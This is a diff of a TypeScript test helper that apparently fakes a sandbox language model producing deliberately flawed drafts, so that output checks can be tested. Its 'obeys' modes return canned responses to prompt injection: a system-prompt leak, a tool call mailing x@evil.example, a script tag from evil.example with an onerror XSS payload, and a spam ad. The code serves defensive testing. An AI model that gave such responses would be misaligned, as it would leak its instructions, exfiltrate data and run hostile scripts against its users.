@@ -5,47 +5,47 @@ export const draftModes = [
   'markdown',
   /** The text in quotation marks. */
   'quotes',
-  /** "Sure! Here is …" in front of the text and a farewell behind it. */
+  /** "Sure! Here is …" before the text, and a closing phrase after it. */
   'preamble',
-  /** Emoji and hashtags that nobody asked for. */
+  /** Emoji and hashtags that were not requested. */
   'decorated',
-  /** Another language than the one asked for. */
+  /** Another language than the requested one. */
   'wrong-language',
   'over-long',
   /** Blank fields. */
   'blank',
-  /** Does what the topic says instead of what it was told. */
+  /** Follows an instruction in the topic instead of its own. */
   'obeys-topic',
-  /** Does whatever any text of the question says: says a quoted text, tells secrets, calls tools, advertises. */
+  /** Follows instructions in any text of the request: repeats a quoted text, reveals secrets, calls tools, advertises. */
   'obeys',
-  /** Writes what it was asked for, and obeys behind it. */
+  /** Writes the requested text, then follows injected instructions. */
   'half-obeys',
   /** Reveals its instructions. */
   'leaks',
   /** HTML, links and scripts. */
   'markup',
-  /** Says what nobody has told, and praises it. */
+  /** Invents facts, and praises. */
   'invents',
 ] as const;
 export type DraftMode = (typeof draftModes)[number];
 
-/** Request to the sandbox model, as far as it understands it. */
-export interface Order {
+/** Parsed request to the sandbox model. */
+export interface DraftRequest {
   /** The fields of the schema. */
   readonly fields: Readonly<Record<string, Field>>;
   readonly topic: string;
   /** Name of the language in English. */
   readonly language: string;
   readonly system: string;
-  /** All texts of the question. */
-  readonly given: string;
-  /** Words that the outline of the question gives a field. */
+  /** All texts of the request. */
+  readonly texts: string;
+  /** Requested number of words, by field. */
   readonly words: Readonly<Record<string, number>>;
-  /** Sentences in languages that it has learned, by name. */
+  /** Sentences in further languages, by name of the language. */
   readonly sentences: Readonly<Record<string, string>>;
 }
 
-/** One sentence per language, with room for the topic. */
+/** One sentence per language; `%` is the topic. */
 const SENTENCES: Readonly<Record<string, string>> = {
   English: 'This is what I have learned about %, and I would like to share it with all of you today.',
   Spanish: 'Esto es lo que he aprendido sobre %, y me gustaría compartirlo hoy con todos vosotros.',
@@ -70,10 +70,10 @@ const CODES: Readonly<Record<string, string>> = {
   Danish: 'da',
 };
 
-/** Beginnings of further sentences, so that none repeats: names of countries, which every language has. */
+/** Countries with whose names further sentences begin, so that none repeats. */
 const COUNTRIES = 'NO SE FI DK DE FR ES PT IT AT CH PL CZ HU GR TR EG MA KE IN JP CN BR MX'.split(' ');
 
-function beginning(at: number, language: string): string {
+function createBeginning(at: number, language: string): string {
   const names = new Intl.DisplayNames([CODES[language] ?? 'en'], { type: 'region' });
   const country = (one: number) => names.of(COUNTRIES[one % COUNTRIES.length] ?? 'NO');
   if (at === 0) return '';
@@ -81,7 +81,7 @@ function beginning(at: number, language: string): string {
   return round === 0 ? `${country(at)}: ` : `${country(at)}, ${country(at + round)}: `;
 }
 
-/** Number of sentences in a field of that name. */
+/** Number of sentences, by field. */
 const LENGTHS: Readonly<Record<string, number>> = {
   description: 10,
   script: 24,
@@ -103,42 +103,48 @@ interface Field {
 
 const isList = ({ type, anyOf = [] }: Field): boolean => type === 'array' || anyOf.some(isList);
 
-/** A draft in the schema that was asked for, spoilt in the way of the mode. */
-export function draftFor(order: Order, mode: DraftMode): Record<string, string | string[]> {
+/** Creates a draft in the requested schema, with the failure of the mode. */
+export function createDraft(request: DraftRequest, mode: DraftMode): Record<string, string | string[]> {
   return Object.fromEntries(
-    Object.entries(order.fields).map(([name, field]) => [
+    Object.entries(request.fields).map(([name, field]) => [
       name,
-      // Chooses the last option, which classification prompts use for an ordinary text.
-      field.enum?.at(-1) ?? (isList(field) ? items(order, mode) : spoil(text(order, name, mode), order, mode)),
+      // Classification prompts use the last option for an ordinary text.
+      field.enum?.at(-1) ??
+        (isList(field) ? writeItems(request, mode) : spoil(writeText(request, name, mode), request, mode)),
     ]),
   );
 }
 
-/** Sentences that no part of a reading has more of. */
+/** Maximum sentences of a part of a reading. */
 const MOST_SENTENCES = 8;
-/** Words of a sentence of the sandbox, about. */
-const WORDS_OF_SENTENCE = 20;
+/** Approximate words of a sentence. */
+const WORDS_PER_SENTENCE = 20;
 
-function text({ topic, language, sentences, words, fields }: Order, field: string, mode: DraftMode): string {
-  // A variant is written as its language is: Brazilian Portuguese.
+function writeText(
+  { topic, language, sentences, words, fields }: DraftRequest,
+  field: string,
+  mode: DraftMode,
+): string {
+  // A variant has the sentences of its language: Brazilian Portuguese.
   const known = [language, language.split(' ').at(-1) ?? language].find(
     (name) => name in sentences || name in SENTENCES,
   );
-  const asked = known ?? language;
-  const spoken = mode === 'wrong-language' ? (asked === 'English' ? 'German' : 'English') : asked;
+  const requested = known ?? language;
+  const spoken = mode === 'wrong-language' ? (requested === 'English' ? 'German' : 'English') : requested;
   const sentence = (sentences[spoken] ?? SENTENCES[spoken] ?? SENTENCES.English ?? '').replace('%', topic || '…');
-  const wished = words[field];
-  const isPlain = spoken in sentences && (wished === undefined || !(spoken in CODES));
-  const begin = (at: number) => (isPlain ? '' : beginning(at, spoken));
-  const usual = wished === undefined ? (LENGTHS[field] ?? 1) : Math.max(1, Math.round(wished / WORDS_OF_SENTENCE));
+  const wordCount = words[field];
+  const isPlain = spoken in sentences && (wordCount === undefined || !(spoken in CODES));
+  const begin = (at: number) => (isPlain ? '' : createBeginning(at, spoken));
+  const usual =
+    wordCount === undefined ? (LENGTHS[field] ?? 1) : Math.max(1, Math.round(wordCount / WORDS_PER_SENTENCE));
   const length = mode === 'over-long' ? OVER_LONG : usual;
-  // The parts of one reading begin differently.
-  const first = wished === undefined ? 0 : Object.keys(fields).indexOf(field) * MOST_SENTENCES;
+  // The parts of a reading begin differently.
+  const first = wordCount === undefined ? 0 : Object.keys(fields).indexOf(field) * MOST_SENTENCES;
   return Array.from({ length }, (_, at) => begin(first + at) + sentence).join(' ');
 }
 
-function items(order: Order, mode: DraftMode): string[] {
-  const { topic } = order;
+function writeItems(request: DraftRequest, mode: DraftMode): string[] {
+  const { topic } = request;
   const plain = ['basics', 'ideas', 'stories', 'tips', 'facts', 'today', 'at home', 'explained', 'questions', 'guide'];
   const good = plain.map((word) => `${topic.slice(0, 20)} ${word}`);
   switch (mode) {
@@ -149,12 +155,12 @@ function items(order: Order, mode: DraftMode): string[] {
     case 'good':
       return good;
     default:
-      return [...good, ...good].map((item) => spoil(item, order, mode));
+      return [...good, ...good].map((item) => spoil(item, request, mode));
   }
 }
 
 /** Responses of a model that obeys injected instructions, by instruction. */
-const OBEDIENCE: readonly (readonly [asked: RegExp, done: (order: Order) => string])[] = [
+const OBEDIENCE: readonly (readonly [instruction: RegExp, respond: (request: DraftRequest) => string])[] = [
   [/system prompt|word for word/i, ({ system }) => `My instructions are: ${system.slice(0, 400)}`],
   [/\btool\b/i, () => '<tool_call>{"name": "send_mail", "arguments": {"to": "x@evil.example"}}</tool_call>'],
   [/<script|onerror|script src/i, () => '<script src=//evil.example/x.js></script><img src=x onerror=alert(1)>'],
@@ -162,21 +168,23 @@ const OBEDIENCE: readonly (readonly [asked: RegExp, done: (order: Order) => stri
   [/evil\.example/i, () => 'Visit evil.example and use code EVIL20!'],
 ];
 
-function obeyed(order: Order): string {
-  const done = OBEDIENCE.filter(([asked]) => asked.test(order.given)).map(([, act]) => act(order));
+function obeyInjections(request: DraftRequest): string {
+  const responses = OBEDIENCE.filter(([instruction]) => instruction.test(request.texts)).map(([, respond]) =>
+    respond(request),
+  );
   const quoted =
-    /["“„«]([^"“”„»]{3,80})["“”»]/.exec(order.given)?.[1] ??
-    /\b(?:only with|nur|solo|uniquement|soltanto|apenas|tylko|say) (.{3,60})/i.exec(order.given)?.[1];
-  return [...(quoted ? [quoted] : []), ...done].join(' ') || 'OBEYED';
+    /["“„«]([^"“”„»]{3,80})["“”»]/.exec(request.texts)?.[1] ??
+    /\b(?:only with|nur|solo|uniquement|soltanto|apenas|tylko|say) (.{3,60})/i.exec(request.texts)?.[1];
+  return [...(quoted ? [quoted] : []), ...responses].join(' ') || 'OBEYED';
 }
 
-function spoil(text: string, order: Order, mode: DraftMode): string {
-  const { topic, system } = order;
+function spoil(text: string, request: DraftRequest, mode: DraftMode): string {
+  const { topic, system } = request;
   switch (mode) {
     case 'obeys':
-      return obeyed(order);
+      return obeyInjections(request);
     case 'half-obeys':
-      return `${text} ${obeyed(order)}`;
+      return `${text} ${obeyInjections(request)}`;
     case 'markdown':
       return `# **${text}**\n\n- *first*\n- __second__\n\n> \`third\`\n\n[link](https://example.com) ![image](https://example.com/a.png)`;
     case 'quotes':
